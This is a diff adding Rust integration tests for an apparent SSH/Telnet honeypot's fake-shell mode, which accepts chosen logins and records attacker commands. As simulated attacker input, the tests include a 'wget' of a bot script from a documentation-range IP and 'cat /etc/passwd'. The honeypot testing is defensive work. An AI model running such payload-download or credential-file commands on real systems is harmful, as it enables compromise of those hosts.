@@ -41,6 +41,16 @@ fn events(s: &Shared) -> Vec<serde_json::Value> {
 }
 
 async fn start(kind: Kind, s: &Arc<Shared>, ssh: bool, dir: &Path) -> u16 {
+    start_with(kind, s, ssh, dir, None).await
+}
+
+async fn start_with(
+    kind: Kind,
+    s: &Arc<Shared>,
+    ssh: bool,
+    dir: &Path,
+    shell: Option<Arc<services::shell::Policy>>,
+) -> u16 {
     let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
     let port = listener.local_addr().unwrap().port();
     let limits = Limits {
@@ -62,6 +72,7 @@ async fn start(kind: Kind, s: &Arc<Shared>, ssh: bool, dir: &Path) -> u16 {
             kind,
             listener,
             banner: None,
+            shell,
         },
         ctx,
     ));
@@ -192,6 +203,156 @@ async fn ssh_handshake_captures_version_and_passwords() {
     assert_eq!(e["credentials"][0]["username"], "admin");
     assert_eq!(e["credentials"][0]["password"], "Tr0ub4dor&3");
     assert!(!e["credentials"].as_array().unwrap().is_empty());
+}
+
+fn askpass(dir: &Path, password: &str) -> std::path::PathBuf {
+    let path = dir.join("askpass.sh");
+    std::fs::write(&path, format!("#!/bin/sh\necho '{password}'\n")).unwrap();
+    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    path
+}
+
+/// The real OpenSSH client against fake-shell mode: `root` with any password gets in; a
+/// command run with `ssh host cmd` and an interactive session (`-tt`, lines on stdin) are
+/// answered by the emulated shell and recorded, URLs included; `admin` stays out.
+#[tokio::test]
+async fn ssh_fake_shell_accepts_policy_logins_and_records_commands() {
+    if std::process::Command::new("ssh")
+        .arg("-V")
+        .output()
+        .is_err()
+    {
+        eprintln!("SKIP: no OpenSSH client (`ssh`) on this host");
+        return;
+    }
+    let d = tempfile::tempdir().unwrap();
+    let s = shared(d.path());
+    let policy = services::shell::Policy::new(&["root:*".into()], "web-07").unwrap();
+    let port = start_with(Kind::Ssh, &s, true, d.path(), Some(Arc::new(policy))).await;
+    let pass = askpass(d.path(), "letmein");
+    let ssh = |user: &str, extra: &[&str], stdin: &'static [u8]| {
+        let mut c = tokio::process::Command::new("ssh");
+        c.args(["-p", &port.to_string()])
+            .args([
+                "-o",
+                "StrictHostKeyChecking=no",
+                "-o",
+                "UserKnownHostsFile=/dev/null",
+            ])
+            .args([
+                "-o",
+                "PreferredAuthentications=password",
+                "-o",
+                "NumberOfPasswordPrompts=1",
+            ])
+            .args(["-o", "ConnectTimeout=5", "-o", "BatchMode=no"])
+            .arg(format!("{user}@127.0.0.1"))
+            .args(extra)
+            .env("SSH_ASKPASS", &pass)
+            .env("SSH_ASKPASS_REQUIRE", "force")
+            .env("DISPLAY", ":0")
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped());
+        async move {
+            let mut child = c.spawn().unwrap();
+            let mut input = child.stdin.take().unwrap();
+            tokio::io::AsyncWriteExt::write_all(&mut input, stdin)
+                .await
+                .unwrap();
+            drop(input);
+            tokio::time::timeout(Duration::from_secs(20), child.wait_with_output())
+                .await
+                .expect("ssh finished")
+                .unwrap()
+        }
+    };
+
+    let out = ssh("root", &["uname -a; wget http://198.51.100.9/bot.sh"], b"").await;
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "{stdout} {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(stdout.contains("Linux web-07 5.15.0"), "{stdout}");
+    assert!(
+        stdout.contains("unable to resolve host address '198.51.100.9'"),
+        "{stdout}"
+    );
+
+    let out = ssh("root", &["-tt"], b"whoami\ncat /etc/passwd\nexit\n").await;
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.contains("root@web-07:~# "), "{stdout}");
+    assert!(
+        stdout.contains("root:x:0:0:root:/root:/bin/bash"),
+        "{stdout}"
+    );
+
+    let out = ssh("admin", &["id"], b"").await;
+    assert!(!out.status.success(), "admin is not in the policy");
+
+    let ev = wait_events(&s, 3).await;
+    let exec = ev
+        .iter()
+        .find(|e| e["commands"][0] == "uname -a; wget http://198.51.100.9/bot.sh")
+        .expect("exec session recorded");
+    assert_eq!(exec["logged_in"], true, "{exec}");
+    assert_eq!(exec["credentials"][0]["username"], "root");
+    assert_eq!(exec["credentials"][0]["password"], "letmein");
+    assert_eq!(exec["urls"][0], "http://198.51.100.9/bot.sh", "{exec}");
+    let inter = ev
+        .iter()
+        .find(|e| e["commands"][0] == "whoami")
+        .expect("interactive session recorded");
+    assert_eq!(inter["commands"][1], "cat /etc/passwd", "{inter}");
+    assert_eq!(inter["commands"][2], "exit", "{inter}");
+    let denied = ev
+        .iter()
+        .find(|e| e["credentials"][0]["username"] == "admin")
+        .expect("refused session recorded");
+    assert_eq!(denied["logged_in"], false, "{denied}");
+    assert!(denied.get("commands").is_none(), "{denied}");
+}
+
+/// Telnet in fake-shell mode over a raw socket: the policy's login gets a prompt and
+/// answers; commands are recorded.
+#[tokio::test]
+async fn telnet_fake_shell_answers_after_an_accepted_login() {
+    let d = tempfile::tempdir().unwrap();
+    let s = shared(d.path());
+    let policy = services::shell::Policy::new(&["admin:admin".into()], "cam-3").unwrap();
+    let port = start_with(Kind::Telnet, &s, false, d.path(), Some(Arc::new(policy))).await;
+    let mut c = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
+    let mut seen = Vec::new();
+    let mut expect = async |c: &mut TcpStream, what: &str| {
+        let mut buf = [0u8; 4096];
+        while !String::from_utf8_lossy(&seen).contains(what) {
+            let n = tokio::time::timeout(Duration::from_secs(5), c.read(&mut buf))
+                .await
+                .unwrap_or_else(|_| {
+                    panic!("waiting for {what:?}: {}", String::from_utf8_lossy(&seen))
+                })
+                .unwrap();
+            assert!(n > 0, "closed before {what:?}");
+            seen.extend_from_slice(&buf[..n]);
+        }
+    };
+    expect(&mut c, "login: ").await;
+    c.write_all(b"admin\r\n").await.unwrap();
+    expect(&mut c, "Password: ").await;
+    c.write_all(b"admin\r\n").await.unwrap();
+    expect(&mut c, "admin@cam-3:~$ ").await;
+    c.write_all(b"cat /proc/cpuinfo | grep name\r\n")
+        .await
+        .unwrap();
+    expect(&mut c, "model name").await;
+    c.write_all(b"exit\r\n").await.unwrap();
+    expect(&mut c, "logout").await;
+    drop(c);
+    let ev = wait_events(&s, 1).await;
+    assert_eq!(ev[0]["logged_in"], true, "{}", ev[0]);
+    assert_eq!(ev[0]["commands"][0], "cat /proc/cpuinfo | grep name");
 }
 
 // ------------------------------------------------------------------ fake broker
